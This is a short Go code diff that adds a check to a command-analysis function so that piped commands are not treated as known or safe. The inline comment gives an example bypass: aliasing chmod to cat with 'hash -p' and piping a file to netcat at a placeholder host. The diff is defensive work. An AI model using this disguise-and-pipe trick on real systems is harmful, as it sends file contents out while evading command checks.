@@ -128,6 +128,9 @@ func (c *command) handles(i int, name string) bool {
 		}
 		return false
 	}
+	if c.piped { // by a program with another name: hash -p /bin/cat chmod; chmod FILE | nc HOST
+		return false
+	}
 	return c.ignores && !strings.ContainsAny(c.words[i][:min(1, len(c.words[i]))], "~/$") || tables().handlers[c.program] || tables().handlers[name]
 }
 
